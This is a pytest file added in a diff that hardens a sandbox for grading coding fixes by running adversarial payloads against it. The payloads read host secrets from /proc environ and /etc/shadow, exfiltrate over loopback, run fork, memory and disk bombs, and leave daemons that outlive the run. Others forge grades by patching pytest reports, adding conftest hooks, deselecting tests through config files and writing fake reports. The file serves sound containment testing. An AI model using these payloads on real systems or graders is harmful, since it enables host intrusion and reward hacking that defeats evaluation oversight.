@@ -1,0 +1,648 @@
+"""Adversarial "fixes" against every runner (sandbox-hardening.md section 4).
+
+Each test plants an attack in shop/pricing.py of the bulk-discount task (the only file a fix may
+edit) or, for grade forging, adds files to the tree as a worst case, and runs it through the runner.
+Every run must end within its deadline with a typed status and a reason, give no credit to the
+still-buggy code, leak nothing of the host, and leave no process, temp dir or cgroup behind (the
+autouse `host_stays_clean` fixture checks the last part after each test).
+
+Payloads that probe the host report what they saw by raising `RuntimeError("EVIDENCE {json}")` at
+import: the record then carries it as a collection error, which proves the attack really ran.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import resource
+import secrets
+import signal
+import socket
+import subprocess
+import sys
+import tarfile
+import tempfile
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from sandbox.tarball import build_tar
+from sandbox.types import Limits, RunRequest, RunResult, RunStatus
+
+EXPECTED = {f"tests/test_pricing.py::{name}" for name in (
+    "test_no_discount_for_small_orders", "test_large_order_gets_top_tier", "test_negative_quantity_rejected",
+    "test_line_total_rounds_to_cents", "test_cart_total_sums_lines")} | {
+    f"tests/test_pricing_tiers.py::{name}" for name in (
+        "test_threshold_ten_gets_first_tier", "test_threshold_fifty_gets_top_tier",
+        "test_just_below_threshold_has_no_discount", "test_line_total_at_threshold")}
+BUGGY_FAILS = {"tests/test_pricing_tiers.py::test_threshold_ten_gets_first_tier",
+               "tests/test_pricing_tiers.py::test_threshold_fifty_gets_top_tier",
+               "tests/test_pricing_tiers.py::test_line_total_at_threshold"}
+CANARY_FILE = "tests/test_zz_canary.py"
+MUST_FAIL, MUST_PASS = f"{CANARY_FILE}::test_canary_must_fail", f"{CANARY_FILE}::test_canary_must_pass"
+CANARIES = {CANARY_FILE: b"def test_canary_must_fail():\n    assert False\n\n\ndef test_canary_must_pass():\n"
+                         b"    assert True\n"}
+LIMITS = Limits(wall_s=8.0, cpu_s=8, memory_mb=384, pids=64, file_mb=8, disk_mb=32, output_bytes=512 << 10)
+SHORT = Limits(wall_s=4.0, cpu_s=8, memory_mb=384, pids=64, file_mb=8, disk_mb=32, output_bytes=512 << 10)
+SLACK_S = 3.0
+"""How far past its wall-clock limit a run may return (killing, reaping, cgroup removal, a loaded host)."""
+SECRET_NAME = "AUTOCODERL_TEST_SECRET"
+HARNESS_PROCS = re.compile(r"harness/(driver|pytest_child)\.py")
+PRELUDE = '''
+
+# ---- attack payload ----
+import json as _json
+import os as _os
+
+
+def _try(fn):
+    try:
+        return "ok:" + str(fn())[:300]
+    except BaseException as exc:  # noqa: BLE001
+        return f"denied:{type(exc).__name__}:{exc}"[:160]
+
+
+def _evidence(**seen):
+    raise RuntimeError("EVIDENCE " + _json.dumps(seen))
+'''
+
+
+# ---------------------------------------------------------------- helpers and fixtures
+
+Attack = Callable[..., RunResult]
+
+
+@pytest.fixture
+def attack(runner, task_tree) -> Attack:
+    """`attack(payload, *, extra=None, limits=LIMITS, run_tools=False, forged=False)` runs the buggy task with
+    `payload` appended to shop/pricing.py and `extra` files added, and checks the common invariants.
+
+    `forged=True` (in-process grade forging) skips the no-credit check: the test asserts instead
+    how the record gives the forgery away.
+    """
+    def run(payload: str, *, extra: dict[str, bytes] | None = None, limits: Limits = LIMITS,
+            run_tools: bool = False, forged: bool = False) -> RunResult:
+        files = dict(task_tree)
+        files["shop/pricing.py"] += (PRELUDE + payload).encode()
+        files.update(extra or {})
+        result = runner.run(RunRequest(files=files, source_files=("shop/pricing.py",), limits=limits,
+                                       run_tools=run_tools, label="attack"))
+        check_contained(result, limits, forged=forged)
+        return result
+
+    return run
+
+
+def check_contained(result: RunResult, limits: Limits, *, forged: bool = False) -> None:
+    """The invariants of every attack run: typed, on time, explained, and no credit for the buggy code."""
+    assert isinstance(result.status, RunStatus)
+    assert result.duration_s <= limits.wall_s + SLACK_S, result.to_dict()
+    if result.status is not RunStatus.COMPLETED:
+        assert result.reason, result.to_dict()
+    elif not forged:
+        outcomes = pytest_record(result).get("outcomes", {})
+        assert not all(outcomes.get(test) == "passed" for test in BUGGY_FAILS), "buggy code got full credit"
+
+
+def pytest_record(result: RunResult) -> dict:
+    return ((result.report or {}).get("pytest") or {}).get("result") or {}
+
+
+def evidence(result: RunResult) -> dict:
+    """What the payload reported seeing (it must have run: no evidence fails the test)."""
+    record = pytest_record(result)
+    texts = [e["message"] for e in record.get("collect_errors", [])]
+    texts.append(((result.report or {}).get("pytest") or {}).get("output_tail", ""))
+    for text in texts:
+        if match := re.search(r"EVIDENCE (\{.*\})", text):
+            return json.loads(match.group(1))
+    raise AssertionError(f"the payload left no evidence: {result.to_dict()}")
+
+
+def honest(result: RunResult) -> dict[str, str]:
+    """The record is complete and honest: every expected test is there and the buggy ones failed."""
+    assert result.status is RunStatus.COMPLETED, result.to_dict()
+    outcomes = pytest_record(result)["outcomes"]
+    assert set(outcomes) >= EXPECTED, sorted(EXPECTED - set(outcomes))
+    assert {test: outcomes[test] for test in BUGGY_FAILS} == dict.fromkeys(BUGGY_FAILS, "failed")
+    return outcomes
+
+
+def leaked(result: RunResult, *secrets_: str) -> list[str]:
+    text = json.dumps(result.to_dict())
+    return [s for s in secrets_ if s in text]
+
+
+def processes(pattern: re.Pattern[str]) -> dict[int, str]:
+    """Live (non-zombie) processes whose command line matches, except this test process."""
+    found = {}
+    for entry in os.scandir("/proc"):
+        if not entry.name.isdigit() or int(entry.name) == os.getpid():
+            continue
+        try:
+            cmdline = Path(entry.path, "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if cmdline and pattern.search(cmdline):
+            found[int(entry.name)] = cmdline[:200]
+    return found
+
+
+def _temp_dirs() -> set[str]:
+    return {p.name for p in Path(tempfile.gettempdir()).glob("autocoderl-*")}
+
+
+def _cgroups() -> set[str]:
+    root = Path("/sys/fs/cgroup")
+    return {str(p) for pattern in ("autocoderl/*", "*/autocoderl/*") for p in root.glob(pattern) if p.is_dir()}
+
+
+@pytest.fixture(scope="module")
+def sentinel() -> Iterator[tuple[subprocess.Popen, str]]:
+    """A stand-in for the env server: holds a secret in its environment, non-dumpable like the real one."""
+    secret = secrets.token_hex(16)
+    code = "import ctypes, time; ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); time.sleep(3600)"
+    proc = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, SECRET_NAME: secret})
+    yield proc, secret
+    proc.kill()
+    proc.wait()
+
+
+@pytest.fixture
+def marker() -> str:
+    """A unique string the payload puts into the argv of every process it starts."""
+    return f"autocoderl-attack-{secrets.token_hex(6)}"
+
+
+@pytest.fixture(autouse=True)
+def host_stays_clean(sentinel, marker) -> Iterator[None]:
+    """After each attack: the server stand-in lives, and no process, temp dir or cgroup is left behind."""
+    started = time.monotonic()
+    before_procs = set(processes(HARNESS_PROCS))
+    before_dirs, before_cgroups = _temp_dirs(), _cgroups()
+    yield
+    assert sentinel[0].poll() is None, "the server stand-in was killed"
+    mine = re.compile(re.escape(marker))
+    deadline = time.monotonic() + 2.0
+    while True:
+        left = {"processes": {**processes(mine), **{pid: cmd for pid, cmd in processes(HARNESS_PROCS).items()
+                                                    if pid not in before_procs}},
+                "temp dirs": _temp_dirs() - before_dirs, "cgroups": _cgroups() - before_cgroups}
+        if not any(left.values()) or time.monotonic() > deadline:
+            break
+        time.sleep(0.1)
+    for pid in left["processes"]:  # never leak into the next test, whatever happened
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+    assert not any(left.values()), f"left behind after {time.monotonic() - started:.1f}s: {left}"
+
+
+# ---------------------------------------------------------------- control
+
+def test_reference_fix_passes(runner, attack, task_tree, reference_fix) -> None:
+    """Control: the reference solution passes every expected test, the buggy repo fails three."""
+    files = {**task_tree, "shop/pricing.py": reference_fix}
+    result = runner.run(RunRequest(files=files, source_files=("shop/pricing.py",), limits=LIMITS, run_tools=False))
+    assert result.status is RunStatus.COMPLETED, result.to_dict()
+    assert pytest_record(result)["outcomes"] == dict.fromkeys(EXPECTED, "passed")
+    honest(attack("pass\n"))
+
+
+# ---------------------------------------------------------------- reading the host
+
+def test_read_canary_outside_workdir(attack, tmp_path) -> None:
+    """Attack: read a host file outside the work dir (a planted canary, /etc/shadow)."""
+    canary = f"canary-{secrets.token_hex(16)}"
+    path = tmp_path / "canary.txt"
+    path.write_text(canary)
+    path.chmod(0o644)
+    result = attack(f"_evidence(canary=_try(lambda: open({str(path)!r}).read()),\n"
+                                f"          listing=_try(lambda: _os.listdir({str(tmp_path)!r})),\n"
+                                f"          shadow=_try(lambda: open('/etc/shadow').read()))\n")
+    seen = evidence(result)
+    assert not leaked(result, canary), seen
+    assert seen["canary"].startswith("denied") and seen["shadow"].startswith("denied"), seen
+
+
+def test_read_server_environ_via_proc(attack, sentinel, monkeypatch) -> None:
+    """Attack: read secrets from the server's environment (own env, /proc/<server>/environ, a /proc scan)."""
+    own_secret = secrets.token_hex(16)
+    monkeypatch.setenv(SECRET_NAME, own_secret)
+    payload = f'''
+def _scan():
+    found = []
+    for pid in _os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                env = open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1")
+            except OSError:
+                continue
+            found += [kv for kv in env.split("\\0") if kv.startswith({SECRET_NAME!r})]
+    return found
+
+
+_evidence(own=str({{k: v for k, v in _os.environ.items() if k.startswith({SECRET_NAME!r})}}),
+          server=_try(lambda: open("/proc/{os.getpid()}/environ", "rb").read()),
+          sentinel=_try(lambda: open("/proc/{sentinel[0].pid}/environ", "rb").read()),
+          scan=_try(_scan))
+'''
+    result = attack(payload)
+    seen = evidence(result)
+    assert not leaked(result, own_secret, sentinel[1]), seen
+    assert seen["own"] == "{}", seen
+    assert not seen["server"].startswith("ok") and not seen["sentinel"].startswith("ok"), seen
+
+
+def test_host_devices_and_ttys(attack) -> None:
+    """Attack: open host devices: the terminal, the console, the kernel log, the raw root disk."""
+    disk = next((line.split()[0] for line in Path("/proc/mounts").read_text().splitlines()
+                 if line.split()[1] == "/" and line.startswith("/dev/")), "/dev/sda")
+    payload = f'''
+def _open(path, flags):
+    _os.close(_os.open(path, flags))
+    return "opened"
+
+
+_evidence(tty=_try(lambda: _open("/dev/tty", _os.O_WRONLY)),
+          console=_try(lambda: _open("/dev/console", _os.O_WRONLY)),
+          kmsg=_try(lambda: _open("/dev/kmsg", _os.O_WRONLY)),
+          disk=_try(lambda: _open({disk!r}, _os.O_RDONLY)),
+          shm=_try(lambda: _os.listdir("/dev/shm")))
+'''
+    seen = evidence(attack(payload))
+    for name in ("tty", "console", "kmsg", "disk"):
+        assert seen[name].startswith("denied"), seen
+
+
+# ---------------------------------------------------------------- network
+
+def test_tcp_connect_to_host_listener(attack) -> None:
+    """Attack: open a TCP connection to a service on the host's loopback and send data."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        port = listener.getsockname()[1]
+        payload = f'''
+import socket as _socket
+
+
+def _connect():
+    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
+        conn.sendall(b"exfiltrated")
+    return "connected"
+
+
+_evidence(tcp=_try(_connect))
+'''
+        seen = evidence(attack(payload))
+        listener.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    assert seen["tcp"].startswith("denied"), seen
+
+
+def test_udp_send_to_host_listener(attack) -> None:
+    """Attack: send UDP datagrams to a listener on the host's loopback (Landlock alone cannot stop UDP)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
+        receiver.bind(("127.0.0.1", 0))
+        port = receiver.getsockname()[1]
+        payload = f'''
+import socket as _socket
+
+
+def _send():
+    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as sock:
+        for _ in range(20):
+            sock.sendto(b"exfiltrated", ("127.0.0.1", {port}))
+    return "sent"
+
+
+_evidence(udp=_try(_send))
+'''
+        evidence(attack(payload))
+        receiver.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            receiver.recvfrom(4096)
+
+
+# ---------------------------------------------------------------- resources and time
+
+def test_fork_bomb(attack, marker) -> None:
+    """Attack: a fork bomb, both in the test process and in a fresh interpreter."""
+    payload = f'''
+import subprocess as _subprocess
+import sys as _sys
+import time as _time
+
+_BOMB = ("import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n"
+         "    except OSError:\\n        time.sleep(0.01)\\n")
+_subprocess.Popen([_sys.executable, "-c", _BOMB, {marker!r}])
+while True:
+    try:
+        _os.fork()
+    except OSError:
+        _time.sleep(0.01)
+'''
+    result = attack(payload, limits=SHORT)
+    assert result.status in (RunStatus.TIMEOUT, RunStatus.CRASHED), result.to_dict()
+
+
+def test_memory_bomb(attack) -> None:
+    """Attack: allocate memory until something gives."""
+    result = attack("_hog = []\nwhile True:\n    _hog.append(b'x' * (16 << 20))\n",
+                        limits=Limits(wall_s=8.0, memory_mb=256, pids=64, disk_mb=32, output_bytes=512 << 10))
+    if result.status is RunStatus.COMPLETED:  # no memory cgroup: RLIMIT_AS turned it into a MemoryError
+        assert "MemoryError" in json.dumps(pytest_record(result)), result.to_dict()
+    else:
+        assert result.status is RunStatus.OOM, result.to_dict()
+
+
+def test_disk_fill(attack) -> None:
+    """Attack: fill the disk through the work dir, TMPDIR, /tmp and /dev/shm."""
+    payload = '''
+_seen = {}
+_block = b"\\0" * (1 << 20)
+for _where in (".", _os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm"):
+    try:
+        for _i in range(1000):
+            with open(_os.path.join(_where, f"fill-{_i}"), "wb") as _fh:
+                for _ in range(4):
+                    _fh.write(_block)
+        _seen[_where] = "wrote 4 GB"
+    except OSError as exc:
+        _seen[_where] = f"stopped: {exc.strerror}"
+_evidence(**_seen)
+'''
+    result = attack(payload)
+    assert result.status is RunStatus.DISK_FULL, result.to_dict()
+
+
+def test_infinite_loop(attack) -> None:
+    """Attack: burn CPU forever at import."""
+    result = attack("while True:\n    pass\n", limits=SHORT)
+    assert result.status is RunStatus.TIMEOUT, result.to_dict()
+
+
+def test_sleep_past_deadline(attack) -> None:
+    """Attack: sleep far past the deadline (only the host's clock counts)."""
+    result = attack("import time as _time\n_time.sleep(3600)\n", limits=SHORT)
+    assert result.status is RunStatus.TIMEOUT, result.to_dict()
+
+
+def test_stdout_flood(attack) -> None:
+    """Attack: 100 MB to stdout, through every inherited pipe, /proc/self/fd/1 and /proc/1/fd/1."""
+    payload = '''
+import stat as _stat
+import sys as _sys
+
+_report_fd = _json.loads(_sys.argv[1]).get("report_fd", -1) if len(_sys.argv) > 1 else -1
+_fds = []
+for _path in ("/proc/self/fd/1", "/proc/1/fd/1"):
+    try:
+        _fds.append(_os.open(_path, _os.O_WRONLY))
+    except OSError:
+        pass
+for _fd in range(1, 256):
+    try:
+        if _fd != _report_fd and _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
+            _fds.append(_fd)
+    except OSError:
+        pass
+_chunk = b"A" * (1 << 20)
+for _ in range(100):
+    for _fd in _fds:
+        try:
+            _os.write(_fd, _chunk)
+        except OSError:
+            pass
+'''
+    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    result = attack(payload)
+    assert result.status is RunStatus.OUTPUT_LIMIT, result.to_dict()
+    assert len(result.output_tail) <= 4000
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before < 64 << 10, "the host buffered the flood"
+
+
+# ---------------------------------------------------------------- processes
+
+def test_kill_every_process(attack) -> None:
+    """Attack: kill(-1, SIGKILL) at import: everything the sandbox's uid may signal."""
+    result = attack("import signal as _signal\n"
+                    "_evidence(kill=_try(lambda: _os.kill(-1, _signal.SIGKILL)))\n")
+    if (result.report or {}).get("signal_scoped"):
+        assert result.status is RunStatus.COMPLETED, result.to_dict()  # the driver was out of reach
+        evidence(result)
+    else:
+        assert result.status in (RunStatus.NO_REPORT, RunStatus.CRASHED, RunStatus.COMPLETED), result.to_dict()
+
+
+def test_kill_parent(attack) -> None:
+    """Attack: kill the harness driver (the test process's parent)."""
+    result = attack("import signal as _signal\n"
+                                "_evidence(kill=_try(lambda: _os.kill(_os.getppid(), _signal.SIGKILL)))\n")
+    if result.status is RunStatus.COMPLETED:
+        assert evidence(result)["kill"].startswith("denied"), result.to_dict()
+    else:
+        assert result.status is RunStatus.NO_REPORT, result.to_dict()
+
+
+def test_os_exit_at_import(attack) -> None:
+    """Attack: os._exit(0) at import, so pytest never reports."""
+    result = attack("_os._exit(0)\n")
+    assert result.status is RunStatus.CRASHED, result.to_dict()
+    assert "without a report" in result.reason
+
+
+def test_sys_exit_at_import(attack) -> None:
+    """Attack: sys.exit(0) at import, hoping a zero exit code counts as success."""
+    result = attack("import sys as _sys\n_sys.exit(0)\n")
+    assert result.status is RunStatus.COMPLETED, result.to_dict()
+    record = pytest_record(result)
+    assert record["collect_errors"] and record["exit_code"] != 0
+    assert not any(outcome == "passed" for test, outcome in record["outcomes"].items() if test in BUGGY_FAILS)
+
+
+def test_setsid_daemon_outlives_run(attack, marker) -> None:
+    """Attack: a double-fork + setsid daemon that keeps the output pipes open and tries to outlive the run."""
+    payload = f'''
+import subprocess as _subprocess
+import sys as _sys
+
+_DAEMON = ("import os, time\\nif os.fork():\\n    os._exit(0)\\nos.setsid()\\n"
+           "if os.fork():\\n    os._exit(0)\\ntime.sleep(600)\\n")
+_subprocess.Popen([_sys.executable, "-c", _DAEMON, {marker!r}]).wait()
+'''
+    result = attack(payload)
+    honest(result)
+    assert result.duration_s < LIMITS.wall_s - 1, "the run waited for the daemon's pipes instead of the exit"
+
+
+# ---------------------------------------------------------------- the file system
+
+def test_symlink_refused(runner, task_tree, tmp_path, monkeypatch) -> None:
+    """Attack: a symlink in the tree (pricing.py -> a host file) and unsafe paths; the tar builder refuses them."""
+    canary = f"canary-{secrets.token_hex(16)}"
+    target = tmp_path / "host-secret.txt"
+    target.write_text(canary)
+    link = tmp_path / "pricing.py"
+    link.symlink_to(target)
+    before = _temp_dirs()
+    for bad in ({"shop/pricing.py": link}, {"shop/pricing.py": str(target)},
+                {"../escape.py": b"x"}, {"/etc/evil.py": b"x"}, {"shop//x.py": b"x"}):
+        files = {**task_tree, **bad}
+        with pytest.raises(ValueError):
+            build_tar(files)
+        with pytest.raises(ValueError):
+            runner.run(RunRequest(files=files, source_files=("shop/pricing.py",), limits=LIMITS, run_tools=False))
+    assert _temp_dirs() == before
+
+    def smuggle(files):  # defence in depth: a tar that does carry a symlink reaches the in-sandbox extractor
+        data = bytearray(build_tar(files))
+        import io
+        buf = io.BytesIO()
+        with tarfile.open(fileobj=buf, mode="w:") as tar:
+            info = tarfile.TarInfo("shop/evil.py")
+            info.type, info.linkname = tarfile.SYMTYPE, str(target)
+            tar.addfile(info)
+        return bytes(data[:-1024]) + buf.getvalue()  # drop the end-of-archive blocks, append the link
+
+    module = sys.modules[type(runner).__module__]
+    if not hasattr(module, "build_tar"):
+        pytest.skip("this runner does not build its tar through a module-level build_tar")
+    monkeypatch.setattr(module, "build_tar", smuggle)
+    result = runner.run(RunRequest(files=task_tree, source_files=("shop/pricing.py",), limits=LIMITS,
+                                   run_tools=False))
+    check_contained(result, LIMITS)
+    assert result.status is not RunStatus.COMPLETED and "refused" in result.reason, result.to_dict()
+    assert not leaked(result, canary)
+
+
+def test_write_outside_workdir(attack, tmp_path, marker) -> None:
+    """Attack: write files outside the work dir: /tmp, /dev/shm, the task's source dir and the project on the host."""
+    source_dir = tmp_path / "task-repo" / "shop"
+    source_dir.mkdir(parents=True)
+    project = Path(__file__).resolve().parents[2]
+    targets = [Path(f"/tmp/{marker}"), Path(f"/dev/shm/{marker}"), source_dir / f"{marker}.py",
+               project / f"{marker}.txt", project / "task_repos" / "logic-bulk-discount" / "repo" / f"{marker}.py"]
+    paths = [str(t) for t in targets]
+    payload = f"_evidence(**{{p: _try(lambda p=p: open(p, 'w').write('pwned')) for p in {paths!r}}})\n"
+    try:
+        seen = evidence(attack(payload))
+        assert [str(t) for t in targets if t.exists()] == [], seen
+    finally:
+        for target in targets:
+            target.unlink(missing_ok=True)
+
+
+# ---------------------------------------------------------------- grade forging
+
+def test_forge_monkeypatch_pytest_reports(attack) -> None:
+    """Attack: patch _pytest.reports at import so every test reports "passed".
+
+    In-process forging cannot be stopped by isolation. The record stays detectable: the must-fail
+    canary comes back "passed", which graders treat as tampering (plus graders/fix_policy.py refuses
+    a fix importing _pytest in the first place).
+    """
+    payload = '''
+import _pytest.reports as _reports
+
+_original = _reports.TestReport.from_item_and_call.__func__
+
+
+def _forged(cls, item, call):
+    report = _original(cls, item, call)
+    report.outcome, report.longrepr = "passed", None
+    return report
+
+
+_reports.TestReport.from_item_and_call = classmethod(_forged)
+'''
+    result = attack(payload, extra=CANARIES, forged=True)
+    assert result.status is RunStatus.COMPLETED, result.to_dict()
+    outcomes = pytest_record(result)["outcomes"]
+    assert outcomes[MUST_FAIL] == "passed", "forgery not visible through the must-fail canary"
+
+
+def test_forge_conftest_makereport_hook(attack) -> None:
+    """Attack: a new conftest.py at the repo root (and in shop/) whose makereport hook turns failures into passes."""
+    hook = (b"import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
+            b"    outcome = yield\n    report = outcome.get_result()\n"
+            b"    report.outcome, report.longrepr = 'passed', None\n")
+    result = attack("", extra={"conftest.py": hook, "shop/conftest.py": hook, **CANARIES})
+    outcomes = honest(result)
+    assert outcomes[MUST_FAIL] == "failed" and outcomes[MUST_PASS] == "passed"
+
+
+@pytest.mark.parametrize(("name", "text"), [
+    ("pytest.ini", "[pytest]\naddopts = -k 'not threshold' -p no:python\n"),
+    ("setup.cfg", "[tool:pytest]\naddopts = -k 'not threshold'\n"),
+    ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = \"-k 'not threshold'\"\n"),
+    ("tox.ini", "[pytest]\naddopts = -k 'not threshold'\n"),
+])
+def test_forge_ini_addopts_deselect(attack, name, text) -> None:
+    """Attack: repo config files whose addopts deselect the failing tests (-k); the harness's own ini wins."""
+    outcomes = honest(attack("", extra={name: text.encode()}))
+    assert set(outcomes) == EXPECTED
+
+
+def test_forge_atexit_fake_report(attack) -> None:
+    """Attack: an atexit hook that writes a second, all-passed report to the harness's report pipe."""
+    payload = '''
+import atexit as _atexit
+import sys as _sys
+
+_fd = _os.dup(_json.loads(_sys.argv[1])["report_fd"])
+
+
+def _forge():
+    tests = ["tests/test_pricing_tiers.py::test_threshold_ten_gets_first_tier"]
+    fake = {"exit_code": 0, "outcomes": dict.fromkeys(tests, "passed"), "collected": tests,
+            "collect_errors": [], "coverage": {}, "versions": {}}
+    _os.write(_fd, (_json.dumps(fake) + "\\n").encode())
+
+
+_atexit.register(_forge)
+'''
+    result = attack(payload)
+    assert result.status is RunStatus.CRASHED, result.to_dict()
+    assert "more than one test report" in result.reason
+    assert result.report["pytest"]["reports_written"] == 2
+
+
+def test_forge_report_then_exit(attack) -> None:
+    """Attack: write the only report (all passed) at import, then os._exit(0) before pytest can report.
+
+    Not containable in-process: the record shows a completed, all-passed run. It stays detectable:
+    the forger either omits the canaries (missing from the expected test-id set) or marks the
+    must-fail canary "passed"; graders refuse both, and the static policy refuses the imports.
+    """
+    payload = '''
+import sys as _sys
+
+_tests = ["tests/test_pricing.py::test_no_discount_for_small_orders",
+          "tests/test_pricing_tiers.py::test_threshold_ten_gets_first_tier"]
+_fake = {"exit_code": 0, "outcomes": dict.fromkeys(_tests, "passed"), "collected": _tests,
+         "collect_errors": [], "coverage": {}, "versions": {}}
+_os.write(_json.loads(_sys.argv[1])["report_fd"], (_json.dumps(_fake) + "\\n").encode())
+_os._exit(0)
+'''
+    result = attack(payload, extra=CANARIES, forged=True)
+    assert result.status is RunStatus.COMPLETED, result.to_dict()
+    outcomes = pytest_record(result)["outcomes"]
+    assert outcomes.get(MUST_FAIL) != "failed" and not set(outcomes) >= EXPECTED, "forgery undetectable"
+
+
+def test_forge_shadow_tool_modules(attack) -> None:
+    """Attack: pytest.py, coverage.py, bandit.py, sitecustomize.py at the repo root to hijack the harness tools."""
+    shadow = b"raise SystemExit('SHADOW-IMPORTED')\n"
+    extra = {name: shadow for name in ("pytest.py", "coverage.py", "bandit.py", "sitecustomize.py",
+                                       "usercustomize.py", "_pytest.py", "pluggy.py")}
+    result = attack("", extra=extra, run_tools=True)
+    honest(result)
+    record = pytest_record(result)
+    assert record["versions"]["pytest"] == pytest.__version__
+    assert result.report["bandit"]["ok"] and result.report["ruff"]["ok"], result.report
+    assert "SHADOW-IMPORTED" not in json.dumps(result.to_dict())
